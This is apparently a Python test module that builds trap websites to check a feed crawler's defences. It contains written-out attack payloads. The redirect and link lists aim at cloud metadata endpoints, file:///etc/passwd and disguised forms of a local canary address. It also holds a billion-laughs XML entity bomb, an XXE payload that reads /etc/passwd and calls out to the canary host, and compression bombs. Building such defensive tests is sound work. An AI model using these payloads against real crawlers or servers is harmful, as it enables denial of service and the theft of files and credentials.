"""Hosts that lead astray: to other hosts and schemes, round in circles, into bombs and broken XML."""

from __future__ import annotations

import gzip
import itertools
from dataclasses import replace
from functools import cache
from typing import TYPE_CHECKING

from .site import HTML, XML, Answer, Site, always, pack, redirect

if TYPE_CHECKING:
    from collections.abc import Iterator

    from .site import Route, Visit

CANARY = "127.0.2.1"
"""Nothing names it but traps; whoever contacts it followed one."""

UNLISTED = "127.0.1.250"
"""A host that answers, and that no outlet has."""

_MEGABYTE = 1 << 20


def make_trap_sites() -> list[Site]:
    """All of them."""
    return [
        _other_hosts(),
        _redirect_traps(),
        _entity_bombs(),
        _broken_xml(),
        _cut_feed(),
        _wrong_charsets(),
        _huge_pages(),
        _packed_bombs(),
        _feed_bombs(),
    ]


def _other_hosts() -> Site:
    """Its feed lists pages elsewhere, and what is no page at all."""
    site = Site("other-hosts", "ru").pages(2)
    site.links += [
        f"=http://{UNLISTED}:{{port}}/news/1",
        f"=http://{CANARY}:{{port}}/news/1",
        f"=http://user:secret@{CANARY}:{{port}}/",
        "=http://169.254.169.254/latest/meta-data/",
        "=http://[::1]:{port}/",
        "=http://0.0.0.0:{port}/",
        "=file:///etc/passwd",
        "=ftp://{base}/news/1",
        "=javascript:alert(1)",
        "=mailto:red@example.org",
        "=data:text/html,<p>x",
        "=http://",
        "=",
        "=http://[::bad/",
        "=gopher://127.0.2.1/1",
    ]
    return site.feed()


def _redirect_traps() -> Site:
    site = Site("redirect-traps", "en", "off-list").pages(2)
    number = int.from_bytes(bytes(map(int, CANARY.split("."))), "big")
    places = {
        "loop": "/go/loop",
        "loop-of-two": "/go/loop-back",
        "canary": f"http://{CANARY}:{{port}}/trap",
        "canary-number": f"http://{number}:{{port}}/trap",
        "canary-short": "http://127.0.513:{port}/trap",
        "canary-six": f"http://[::ffff:{CANARY}]:{{port}}/trap",
        "canary-user": f"http://127.0.1.1@{CANARY}:{{port}}/trap",
        "canary-scheme": f"//{CANARY}:{{port}}/trap",
        "canary-backslash": f"http:\\\\{CANARY}:{{port}}\\trap",
        "unlisted": f"http://{UNLISTED}:{{port}}/trap",
        "file": "file:///etc/passwd",
        "metadata": "http://169.254.169.254/latest/meta-data/",
        "ftp": f"ftp://{CANARY}/",
        "nonsense": "http://[",
        "secure": f"https://{CANARY}:{{port}}/trap",
        "other-port": "http://127.0.1.1:1/trap",
    }
    whys = {"loop": "loop", "loop-of-two": "loop", "file": "broken", "ftp": "broken", "nonsense": "broken"}
    whys["canary-backslash"] = "gone"  # RFC 3986 has no backslash: it is a path of this host
    for name, place in places.items():
        site.bad(f"/go/{name}", whys.get(name, "off-list"), redirect(place))
    site.routes["/go/loop-back"] = redirect("/go/loop-of-two", 301)
    site.bad("/go/endless/1", "loop", redirect("/go/endless/2"))
    for step in range(2, 60):
        site.routes[f"/go/endless/{step}"] = redirect(f"/go/endless/{step + 1}")
    site.bad("/go/nowhere", "broken", always(Answer(302, HTML, b"<p>.</p>")))
    site.routes["/go/neighbour"] = redirect("{rss-plain}/news/1")  # another outlet's page, listed there too
    site.may.add("/go/neighbour")
    site.links.append("/go/neighbour")
    return site.feed()


def _entity_bombs() -> Site:
    """A good feed beside three that are weapons."""
    site = Site("entity-bombs", "en", "feed").pages(3).feed()
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "lol">{levels}]><rss version="2.0"><channel><title>&l9;</title></channel></rss>'
    external = (
        '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://{canary}/dtd" [<!ENTITY a SYSTEM "file:///etc/passwd">'
        '<!ENTITY % b SYSTEM "http://{canary}/b"> %b; ]>'
        '<rss version="2.0"><channel><title>&a;</title><item><title>&a;</title><link>{base}/leak/&a;</link></item>'
        "</channel></rss>"
    )
    quadratic = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY q "{"q" * 50_000}">]><rss version="2.0"><channel><title>{"&q;" * 50_000}</title></channel></rss>'
    for name, text in {"levels": bomb, "external": external, "quadratic": quadratic}.items():
        site.routes[f"/bomb/{name}"] = _xml(text)
        site.feeds = (*site.feeds, f"/bomb/{name}")
    return site


def _xml(text: str) -> Route:
    def answer(visit: Visit) -> Answer:
        canary = f"{CANARY}:{visit.site.port}"
        whole = text.replace("{canary}", canary).replace("{base}", visit.site.base)
        return Answer(200, XML, whole.encode())

    return answer


def _broken_xml() -> Site:
    """What feeds get wrong and every reader forgives: bare ampersands, entities of HTML, control letters, blanks first."""
    site = Site("broken-xml", "kk").pages(4)

    def spoil(_visit: Visit, answer: Answer) -> Answer:
        assert isinstance(answer.body, bytes)
        text = answer.body.replace(
            b"<description/>", "<description>Нан & су&nbsp;&mdash; \x0b\x01</description>".encode()
        )
        return replace(answer, body=b"\n\n " + text.replace("№".encode(), b"AT&T \xff \xb9"))

    return site.feed(wrap=spoil)


def _cut_feed() -> Site:
    """A feed that ends in the middle of an entry: those before it stand whole."""
    site = Site("cut-feed", "ru", "feed").pages(4)
    site.may.add("/news/5")
    site.routes["/news/5"] = site.make_route("/news/5")
    site.links.append("/news/5")

    def cut(_visit: Visit, answer: Answer) -> Answer:
        assert isinstance(answer.body, bytes)
        return replace(answer, body=answer.body[: answer.body.rindex(b"<guid")])

    return site.feed(wrap=cut)


def _wrong_charsets() -> Site:
    """Pages and a feed that are not in the charset their header says."""
    site = Site("wrong-charsets", "ru")
    bare = (("Content-Type", "text/html"),)
    site.page("/news/1", lambda _visit, answer: replace(answer, headers=bare), charset="windows-1251")
    wrong = (("Content-Type", "text/html; charset=utf-8"),)
    site.page("/news/2", lambda _visit, answer: replace(answer, headers=wrong), charset="windows-1251")
    latin = (("Content-Type", "text/html; charset=iso-8859-1"),)
    site.page("/news/3", lambda _visit, answer: replace(answer, headers=latin))
    site.page("/news/4", lambda _visit, answer: replace(answer, headers=bare), charset="koi8-r")

    def recode(_visit: Visit, answer: Answer) -> Answer:
        assert isinstance(answer.body, bytes)
        text = answer.body.decode().replace("№", "Новость").replace("UTF-8", "windows-1251")
        return replace(answer, body=text.encode("windows-1251"))

    return site.feed(wrap=recode, mime="text/xml; charset=utf-8")


def _huge_pages() -> Site:
    site = Site("huge-pages", "ru", "large").pages(2)
    gigabyte = 1 << 30
    site.bad("/news/gigabyte", "large", always(Answer(200, HTML, lambda: _zeros(1024), length=gigabyte)))
    site.bad("/news/gigabyte-chunked", "large", always(Answer(200, HTML, lambda: _zeros(1024), chunked=True)))
    site.bad("/news/gigabyte-until-end", "large", always(Answer(200, HTML, lambda: _zeros(1024), length=-1)))
    site.bad("/news/eleven-megabytes", "large", always(Answer(200, HTML, lambda: _zeros(11), length=11 * _MEGABYTE)))
    padding = f"<!--{'x' * (8 * _MEGABYTE)}-->"
    site.page("/news/eight-megabytes", head=padding)
    return site.feed()


def _zeros(megabytes: int) -> Iterator[bytes]:
    return itertools.repeat(b"0" * _MEGABYTE, megabytes)


def _packed_bombs() -> Site:
    site = Site("packed-bombs", "en", "large").pages(2)
    for coding in ("gzip", "deflate", "br", "zstd"):
        head = (*HTML, ("Content-Encoding", coding))
        site.bad(f"/news/{coding}", "large", always(Answer(200, head, _bomb(coding))))
    twice = (*HTML, ("Content-Encoding", "gzip, gzip"))
    site.bad("/news/twice", "large", always(Answer(200, twice, gzip.compress(_bomb("gzip"), 9))))
    return site.feed()


@cache
def _bomb(coding: str) -> bytes:
    """Zeros, packed: a gigabyte, or where a body can only be one stream, a quarter of it."""
    if coding in ("gzip", "zstd"):
        return pack(b"0" * (64 * _MEGABYTE), coding) * 16
    return pack(b"0" * (256 * _MEGABYTE), coding)


def _feed_bombs() -> Site:
    """A good feed beside a packed sitemap and a feed that unpack to a gigabyte."""
    site = Site("feed-bombs", "uk", "large", sitemaps=("/map.xml.gz",)).pages(2).feed()
    site.routes["/map.xml.gz"] = always(Answer(200, (("Content-Type", "application/gzip"),), _bomb("gzip")))
    site.routes["/feed-bomb"] = always(Answer(200, (*XML, ("Content-Encoding", "gzip")), _bomb("gzip")))
    site.feeds = (*site.feeds, "/feed-bomb")
    return site
